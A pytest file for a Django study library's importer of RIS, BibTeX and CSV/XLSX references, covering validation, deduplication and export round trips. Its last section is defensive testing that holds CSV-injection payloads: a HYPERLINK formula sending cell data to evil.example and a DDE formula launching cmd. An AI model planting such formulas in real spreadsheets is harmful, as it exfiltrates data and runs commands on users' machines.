"""Reading RIS, BibTeX and the library's own CSV/XLSX export (as the admin downloads it), and
importing all-or-nothing."""

import csv
import io
from pathlib import Path

from django.core.exceptions import ValidationError
from django.urls import reverse

import openpyxl
import pytest

from evidence.importers import (
    ReferenceFileError,
    apply_plan,
    format_authors,
    plan_import,
    read_references,
)
from evidence.models import LevelOfEvidence, MagnitudeOfEffect, Study, StudyDesign

FILES = Path(__file__).parent / "files"
DEFAULTS = {
    "design": StudyDesign.RCT,
    "level_of_evidence": LevelOfEvidence.RCT,
    "magnitude_of_effect": MagnitudeOfEffect.NOT_RATED,
    "effect": "Substance use disorders",
}


def read(name):
    return read_references(name, (FILES / name).read_bytes())


def import_file(name):
    return apply_plan(plan_import(read(name), DEFAULTS))


def test_reads_ris():
    jones, krupitsky = (record.fields for record in read("references.ris"))
    assert jones["title"].startswith("Efficacy of ketamine")
    assert jones["authors"] == "Jones JL, Mateus CF, Malcolm RJ, Brady KT, Back SE"
    assert jones["journal"] == "Front Psychiatry"
    assert jones["doi"] == "10.3389/fpsyt.2018.00277"
    assert jones["volume_pages"] == "9:277"
    assert krupitsky["volume_pages"] == "29(2):165-183"
    assert krupitsky["authors"] == "Krupitsky EM, Grinenko AY"


def test_reads_bibtex():
    jones, krupitsky = (record.fields for record in read("references.bib"))
    assert jones["authors"] == "Jones JL, Mateus CF, Malcolm RJ, Brady KT, Back SE"
    assert jones["year"] == "2018"
    assert krupitsky["volume_pages"] == "39(1):13-19"
    assert krupitsky["doi"] == ""


@pytest.mark.parametrize(
    "name, message",
    [
        ("truncated.ris", "record from line 6 has no 'ER' line"),
        ("garbage.ris", "Line 4 is not a RIS tag line"),
        ("broken.bib", "entry starting on line 6"),
    ],
)
def test_malformed_files_are_refused_naming_the_place(name, message):
    with pytest.raises(ReferenceFileError, match=message):
        read(name)


def test_unknown_extension_and_non_utf8_are_refused():
    with pytest.raises(ReferenceFileError, match="RIS"):
        read_references("notes.txt", b"TY  - JOUR\nER  - \n")
    with pytest.raises(ReferenceFileError, match="not UTF-8"):
        read_references("refs.ris", b"TY  - JOUR\nTI  - \xff\xfe\nER  - \n")


@pytest.mark.django_db
def test_import_creates_studies_with_the_chosen_classification():
    plan = import_file("references.ris")
    assert len(plan.to_create) == 2
    jones = Study.objects.get(doi="10.3389/fpsyt.2018.00277")
    assert jones.level_of_evidence == LevelOfEvidence.RCT
    assert jones.effect == "Substance use disorders"
    assert jones.year == 2018


@pytest.mark.django_db
def test_import_is_idempotent_and_matches_across_formats():
    import_file("references.ris")
    assert Study.objects.count() == 2

    again = plan_import(read("references.ris"), DEFAULTS)
    assert again.is_empty and len(again.unchanged) == 2

    # The BibTeX file holds Jones again (matched by DOI) and one new study.
    plan = import_file("references.bib")
    assert [study.title for study in plan.to_create] == [
        "Single versus repeated sessions of ketamine-assisted psychotherapy for people with heroin dependence"
    ]
    assert Study.objects.count() == 3


@pytest.mark.django_db
def test_update_keeps_the_clinics_classification(make_study):
    study = make_study(
        doi="10.3389/fpsyt.2018.00277",
        title="Old title",
        level_of_evidence=LevelOfEvidence.SYSTEMATIC_REVIEW,
        summary="The clinic's own summary.",
    )
    plan = import_file("references.ris")

    study.refresh_from_db()
    assert [s.pk for s, _ in plan.to_update] == [study.pk]
    assert study.title.startswith("Efficacy of ketamine")
    assert study.level_of_evidence == LevelOfEvidence.SYSTEMATIC_REVIEW
    assert study.summary == "The clinic's own summary."


@pytest.mark.django_db
def test_an_invalid_record_imports_nothing():
    with pytest.raises(ValidationError) as error:
        import_file("bad_doi.bib")
    assert "entry 'baddoi2002'" in error.value.messages[0]
    assert "DOI" in error.value.messages[0]
    assert not Study.objects.exists()


@pytest.mark.django_db
def test_a_record_twice_in_one_file_is_refused():
    text = (FILES / "references.ris").read_text() * 2
    with pytest.raises(ValidationError, match="the same study as record 1"):
        plan_import(read_references("twice.ris", text.encode()), DEFAULTS)


# Every field an editor fills in, so the round trip below checks each one.
STUDY_FIELDS = [field.name for field in Study._meta.concrete_fields if not field.primary_key]


def library_export(client, export_format):
    """The study library as the admin's "Download CSV/XLSX" button gives it: (filename, bytes)."""
    response = client.get(reverse("evidence_study_modeladmin_index"), {"export": export_format})
    assert response.status_code == 200
    return f"studies.{export_format}", b"".join(response.streaming_content)


def library_contents():
    """Every study's fields, by title: a duplicated study shows as a second entry."""
    return sorted(
        ({name: getattr(study, name) for name in STUDY_FIELDS} for study in Study.objects.all()),
        key=lambda study: study["title"],
    )


@pytest.fixture
def library(make_study):
    """A complete study, one known by its PubMed ID alone, and an untraced one (citation pending)."""
    make_study(
        title="Efficacy of ketamine in the treatment of substance use disorders: a systematic review",
        authors="Jones JL, Mateus CF, Malcolm RJ, Brady KT, Back SE",
        journal="Front Psychiatry",
        year=2018,
        volume_pages="9:277",
        doi="10.3389/fpsyt.2018.00277",
        pmid="30057463",
        url="https://www.frontiersin.org/articles/10.3389/fpsyt.2018.00277/full",
        design=StudyDesign.SYSTEMATIC_REVIEW,
        level_of_evidence=LevelOfEvidence.SYSTEMATIC_REVIEW,
        magnitude_of_effect=MagnitudeOfEffect.LARGE,
        effect="Alcohol withdrawal",
        # Commas, quotes, a line break and non-ASCII text, as a summary may hold them.
        summary='Craving fell, "markedly" in some \u2013 see the\nsecond table (Kr\u00f6ger).',
    )
    make_study(
        title="Ketamine-assisted psychotherapy for heroin dependence",
        authors="Krupitsky EM, et al.",
        doi="",
        pmid="12504563",
        design=StudyDesign.OBSERVATIONAL,
        level_of_evidence=LevelOfEvidence.COHORT,
        magnitude_of_effect=MagnitudeOfEffect.UNCLEAR,
        effect="Heroin use",
    )
    make_study(
        title="Ketamine for opioid withdrawal in a woman with chronic pain",
        authors="",
        journal="",
        year=None,
        doi="",
        design=StudyDesign.CASE_REPORT,
        level_of_evidence=LevelOfEvidence.CASE_REPORT,
        magnitude_of_effect=MagnitudeOfEffect.NOT_RATED,
        effect="Opioid withdrawal",
        summary="",
    )
    contents = library_contents()
    # Each field is filled in for some study, so a column the export loses shows below.
    assert all(any(study[name] not in ("", None) for study in contents) for name in STUDY_FIELDS)
    return contents


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_library_export_imports_again_without_duplicates(editor_client, library, export_format):
    filename, data = library_export(editor_client, export_format)

    plan = plan_import(read_references(filename, data), DEFAULTS)

    assert plan.to_create == [] and plan.to_update == []
    assert sorted(study.title for study in plan.unchanged) == [study["title"] for study in library]
    apply_plan(plan)
    assert library_contents() == library


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_library_export_restores_every_field_into_an_empty_library(editor_client, library, export_format):
    filename, data = library_export(editor_client, export_format)
    Study.objects.all().delete()

    apply_plan(plan_import(read_references(filename, data), DEFAULTS))

    # The file's classification, not the import's defaults; nothing lost, nothing added.
    assert library_contents() == library


def test_format_authors():
    assert format_authors(["Jane Q Public", "Doe, John"]) == "Public JQ, Doe J"
    assert format_authors([]) == ""


# --- Every cell is checked, with the row and the column named (issue 11, items 12 and 16) ---


def csv_file(*rows, headings=("Title", "Authors", "Year", "DOI", "PubMed ID")):
    """A CSV file as the library's export writes it: the headings, then one study a row."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(headings)
    writer.writerows(rows)
    return out.getvalue().encode()


def plan_csv(*rows, **kwargs):
    return plan_import(read_references("studies.csv", csv_file(*rows, **kwargs)), DEFAULTS)


def refusal(*rows, **kwargs):
    with pytest.raises(ValidationError) as error:
        plan_csv(*rows, **kwargs)
    return error.value.messages


@pytest.mark.django_db
@pytest.mark.parametrize("year", ["²", "٢٠١٨", "20189", "2018.5", "MMXVIII"])
def test_a_year_that_is_not_four_ascii_digits_is_refused_naming_row_and_column(year):
    [message] = refusal(
        ["A study", "Doe J", "2018", "10.1000/a", ""], ["Another", "Roe R", year, "10.1000/b", ""]
    )
    assert message.startswith("row 3: Year:") and "four digits" in message


@pytest.mark.django_db
def test_a_bad_year_updating_an_existing_study_is_refused_too(make_study):
    make_study(doi="10.1000/a", year=2018)
    [message] = refusal(["A study", "Doe J", "²", "10.1000/a", ""])
    assert message.startswith("row 2: Year:")


@pytest.mark.django_db
@pytest.mark.parametrize("year, says", [("1850", "1900"), ("2999", "future")])
def test_a_year_out_of_range_is_refused(year, says):
    [message] = refusal(["A study", "Doe J", year, "10.1000/a", ""])
    assert message.startswith("row 2: Year:") and says in message


@pytest.mark.django_db
@pytest.mark.parametrize("character", ["\x00", "\x07", "\x1b", "\x85"])
def test_a_control_character_is_refused_naming_row_and_column(character):
    [message] = refusal([f"A{character}study", "Doe J", "2018", "10.1000/a", ""])
    assert message == (
        f"row 2: Title: holds the control character U+{ord(character):04X}, which cannot be stored; "
        "remove it from the file."
    )


@pytest.mark.django_db
def test_a_nul_in_a_matched_studys_cell_is_refused_before_any_lookup(make_study):
    make_study(title="Untraced", doi="")
    # With no DOI or PMID the title is the study's key: it must not reach the database.
    [message] = refusal(["Untraced\x00", "", "", "", ""])
    assert message.startswith("row 2: Title: holds the control character U+0000")


@pytest.mark.django_db
def test_a_summary_keeps_its_line_breaks_and_tabs():
    plan = plan_csv(["A study", "Line one\n\tLine two"], headings=("Title", "Summary"))
    assert plan.to_create[0].summary == "Line one\n\tLine two"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "column, value, limit",
    [("Title", "x" * 501, 500), ("Authors", "Doe J, " * 80 + "Roe R", 500), ("Journal", "J" * 256, 255)],
)
def test_a_cell_longer_than_its_field_is_refused_never_cut(column, value, limit):
    [message] = (
        refusal(["A study", value], headings=("Title", column)) if column != "Title" else refusal([value])
    )
    assert message == (
        f"row 2: {column}: {len(value)} characters, more than the {limit} it may have; shorten it in the file."
    )
    assert not Study.objects.exists()


@pytest.mark.django_db
def test_a_ris_year_is_not_cut_to_four_digits():
    ris = "TY  - JOUR\nTI  - A study\nPY  - 20189\nER  - \n\nTY  - JOUR\nTI  - Dated\nPY  - 2018/05/01/\nER  - \n"
    with pytest.raises(ValidationError) as error:
        plan_import(read_references("refs.ris", ris.encode()), DEFAULTS)
    assert error.value.messages == ["record 1: Year: '20189' is not a year; write four digits, e.g. 2018."]


@pytest.mark.django_db
@pytest.mark.parametrize("pmid", ["١٢٣٤٥", "12 345", "PMID123"])
def test_a_pmid_is_ascii_digits(pmid):
    [message] = refusal(["A study", "Doe J", "2018", "", pmid])
    assert message.startswith("row 2: PubMed ID: A PubMed ID is digits only")


@pytest.mark.django_db
def test_a_doi_of_one_study_and_a_pmid_of_another_is_refused(make_study):
    first = make_study(doi="10.1000/a", pmid="")
    second = make_study(doi="10.1000/b", pmid="123456")
    [message] = refusal(["A study", "Doe J", "2018", "10.1000/a", "123456"])
    assert (
        message.startswith("row 2: its DOI is that of") and str(first) in message and str(second) in message
    )


@pytest.mark.django_db
def test_two_rows_for_one_study_by_doi_and_by_pmid_are_refused(make_study):
    make_study(doi="10.1000/a", pmid="123456")
    [message] = refusal(["A study", "", "2018", "10.1000/a", ""], ["A study", "", "2019", "", "123456"])
    assert message == "row 3: the same study as row 2."


@pytest.mark.django_db
def test_every_bad_row_is_named_at_once():
    messages = refusal(
        ["Fine", "", "2018", "10.1000/a", ""],
        ["Bad year", "", "²", "10.1000/b", ""],
        ["Bad\x00title", "", "2018", "10.1000/c", ""],
        ["Bad DOI", "", "2018", "doi:10.1000/d", ""],
    )
    assert [message.split(":")[0] for message in messages] == ["row 3", "row 4", "row 5"]


# --- The export never hands a spreadsheet a formula (issue 11, item 14) ---

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open the study")'


@pytest.fixture
def hostile_study(make_study):
    return make_study(title=HYPERLINK, authors="-Doe J", journal="@Journal", summary="=cmd|' /C calc'!A0")


def test_the_library_csv_escapes_formula_cells(editor_client, hostile_study):
    _, data = library_export(editor_client, "csv")

    [heading, row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cells = dict(zip(heading, row, strict=True))
    assert cells["Title"] == f"'{HYPERLINK}"
    assert cells["Authors"] == "'-Doe J"
    assert cells["Journal"] == "'@Journal"
    assert cells["Summary"] == "'=cmd|' /C calc'!A0"


def test_the_library_xlsx_keeps_formula_cells_as_quoted_text(editor_client, hostile_study):
    _, data = library_export(editor_client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    [title] = [cell for cell in sheet[2] if cell.value == HYPERLINK]
    assert title.data_type == "s" and title.quotePrefix


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_escaped_cells_import_back_as_they_were(editor_client, hostile_study, export_format):
    before = library_contents()
    filename, data = library_export(editor_client, export_format)

    plan = plan_import(read_references(filename, data), DEFAULTS)

    assert plan.is_empty and [study.title for study in plan.unchanged] == [HYPERLINK]
    Study.objects.all().delete()
    apply_plan(plan_import(read_references(filename, data), DEFAULTS))
    assert library_contents() == before
